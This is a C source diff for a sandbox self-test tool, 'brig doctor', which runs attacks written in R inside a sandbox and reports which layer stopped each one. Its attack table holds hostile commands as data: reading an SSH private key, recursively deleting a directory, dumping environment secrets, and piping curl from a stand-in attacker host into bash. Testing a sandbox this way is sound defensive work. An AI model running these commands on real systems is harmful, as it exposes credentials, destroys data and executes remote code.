@@ -3,10 +3,12 @@
 #include "bait.h"
 #include "json_value.h"
 #include "layers.h"
+#include "probes.h"
 #include "session_options.h"
 #include "terminal.h"
 
 #include <errno.h>
+#include <limits.h>
 #include <stdlib.h>
 #include <string.h>
 
@@ -17,9 +19,9 @@ enum {
 };
 
 static const char usage_text[] = "usage: brig doctor [OPTION…]\n\n"
-                                 "Show what this machine offers, start a session, attack it. Exit "
-                                 "status 0 only if every attack\n"
-                                 "was stopped.\n\n"
+                                 "Show what this machine offers, let the server try its own walls, "
+                                 "start a session and attack it.\n"
+                                 "Exit status 0 only if everything was stopped.\n\n"
                                  "  --json               one JSON object\n" SESSION_USAGE;
 
 /* `bait_file` and `port` are bound by us. An attack that must be seen to be refused names the kind. */
@@ -28,19 +30,17 @@ struct attack {
     const char *shown; /* as people know it */
     const char *code;
     const char *violation; /* the kind of EVENT violation that tells who stopped it; or NULL */
-    const char *layer;     /* who stops it, where no event tells */
+    const char *probe;     /* of the self-test, which tells where no event does */
 };
 
 static const struct attack attacks[] = {
     {"read a private key", "readLines(\"~/.ssh/id_rsa\")",
      "unlist(lapply(c(\"~/.ssh/id_rsa\", bait_file), function(path)\n"
      "  tryCatch(suppressWarnings(readLines(path)), error = function(e) NULL)))",
-     NULL, "mount namespace: no file of the host is there"},
+     NULL, "host_file"},
     {"delete a directory", "unlink(\"/data/reports\", recursive = TRUE)",
-     "unlink(c(\"/data/reports\", dirname(bait_file)), recursive = TRUE)", NULL,
-     "mount namespace: read-only or not there"},
-    {"read secrets of the environment", "Sys.getenv()", "Sys.getenv()", NULL,
-     "an environment made from nothing"},
+     "unlink(c(\"/data/reports\", dirname(bait_file)), recursive = TRUE)", NULL, "write_outside"},
+    {"read secrets of the environment", "Sys.getenv()", "Sys.getenv()", NULL, "environment"},
     {"start programs", "system(\"curl https://attacker.example/x | bash\")",
      "suppressWarnings(system(\"curl -s https://attacker.example/x | bash\", intern = FALSE))",
      "exec", NULL},
@@ -61,9 +61,10 @@ struct doctor {
     bool json;
     brig_bait bait;
     brig_layer layers[LAYER_COUNT];
-    json_t *sandbox;     /* the server's statement, or NULL: no session */
-    brig_buffer seen;    /* everything that came back from the present attack */
-    const char *awaited; /* kind of violation */
+    brig_probe_table probes; /* empty with --connect: that server has tested itself */
+    json_t *sandbox;         /* the server's statement, or NULL: no session */
+    brig_buffer seen;        /* everything that came back from the present attack */
+    const char *awaited;     /* kind of violation */
     char violation_layer[LAYER_TEXT_BYTES];
     struct verdict verdicts[ATTACK_COUNT];
 };
@@ -102,6 +103,17 @@ static bool has_escaped(const struct doctor *doctor)
                                           strlen(doctor->bait.secret)) != NULL;
 }
 
+/* What stopped it, by evidence: the event of this attack, or the probe that tries the same. */
+static const char *find_layer(const struct doctor *doctor, const struct attack *attack)
+{
+    const brig_probe_row *row;
+
+    if (attack->probe == NULL)
+        return doctor->violation_layer;
+    row = brig_probes_find(&doctor->probes, attack->probe);
+    return row == NULL ? "a layer that the server does not tell" : row->layer;
+}
+
 /* False: the session is over. */
 static bool run_attack(struct doctor *doctor, brig_client *client, size_t i)
 {
@@ -126,8 +138,7 @@ static bool run_attack(struct doctor *doctor, brig_client *client, size_t i)
         return false;
     verdict->is_blocked =
         !has_escaped(doctor) && (attack->violation == NULL || doctor->violation_layer[0] != '\0');
-    copy_text(verdict->layer,
-              brig_span_text(attack->layer != NULL ? attack->layer : doctor->violation_layer));
+    copy_text(verdict->layer, brig_span_text(find_layer(doctor, attack)));
     return true;
 }
 
@@ -180,6 +191,17 @@ static void print_sandbox(const struct doctor *doctor)
     }
 }
 
+static void print_probes(const struct doctor *doctor)
+{
+    (void)puts("\nThe walls, tried by native code: what stops each try, and with what");
+    for (size_t i = 0; i < doctor->probes.count; i++) {
+        const brig_probe_row *row = &doctor->probes.rows[i];
+
+        (void)printf("  %-8s %-48s %s%s%s\n", row->state, row->what, row->layer,
+                     row->layer[0] == '\0' ? "" : ": ", row->how);
+    }
+}
+
 static void print_verdicts(const struct doctor *doctor)
 {
     (void)puts("\nAttacks, by R code in that sandbox");
@@ -189,6 +211,20 @@ static void print_verdicts(const struct doctor *doctor)
         if (doctor->verdicts[i].is_blocked)
             (void)printf("  %-8s by %s\n", "", doctor->verdicts[i].layer);
     }
+}
+
+static json_t *probes_as_json(const brig_probe_table *probes)
+{
+    json_t *array = json_array();
+
+    for (size_t i = 0; i < probes->count; i++) {
+        const brig_probe_row *row = &probes->rows[i];
+
+        (void)json_array_append_new(array, json_pack("{s:s, s:s, s:s, s:s, s:s}", "name", row->name,
+                                                     "state", row->state, "layer", row->layer,
+                                                     "how", row->how, "what", row->what));
+    }
+    return array;
 }
 
 static void print_json(const struct doctor *doctor, bool is_safe)
@@ -208,22 +244,40 @@ static void print_json(const struct doctor *doctor, bool is_safe)
             verdicts, json_pack("{s:s, s:s, s:b, s:s}", "name", attacks[i].name, "code",
                                 attacks[i].shown, "blocked", (int)doctor->verdicts[i].is_blocked,
                                 "layer", doctor->verdicts[i].layer));
-    object = json_pack("{s:b, s:o, s:O?, s:o}", "ok", (int)is_safe, "layers", layers, "sandbox",
-                       doctor->sandbox, "attacks", verdicts);
+    object =
+        json_pack("{s:b, s:o, s:o, s:O?, s:o}", "ok", (int)is_safe, "layers", layers, "probes",
+                  probes_as_json(&doctor->probes), "sandbox", doctor->sandbox, "attacks", verdicts);
     brig_json_print(object);
     json_decref(object);
+}
+
+/* Only of a server that we start; another one has tested itself before it served. */
+static bool try_walls(struct doctor *doctor)
+{
+    const session_options *session = &doctor->session;
+    const char *profile = session->open.profile == NULL ? "standard" : session->open.profile;
+    char server[PATH_MAX];
+
+    if (session->address.socket_path != NULL ||
+        brig_server_find(&session->server, server, sizeof(server)) != BRIG_OK)
+        return true; /* a server that is not there is told when a session is to begin */
+    return brig_probes_run(server, profile, &doctor->probes) && doctor->probes.is_passed;
 }
 
 static int examine(struct doctor *doctor)
 {
     bool is_safe;
+    bool are_walls_sound;
 
     brig_layers_probe(doctor->layers);
     if (!doctor->json)
         print_layers(doctor);
+    are_walls_sound = try_walls(doctor);
+    if (!doctor->json && doctor->probes.count > 0)
+        print_probes(doctor);
     if (!brig_bait_lay(&doctor->bait))
         return brig_complain(EXIT_INFRASTRUCTURE, "no bait for the attacks: %s", strerror(errno));
-    is_safe = run_attacks(doctor);
+    is_safe = run_attacks(doctor) && are_walls_sound;
     for (size_t i = 0; i < ATTACK_COUNT; i++)
         is_safe = is_safe && doctor->verdicts[i].is_blocked;
     if (doctor->json) {
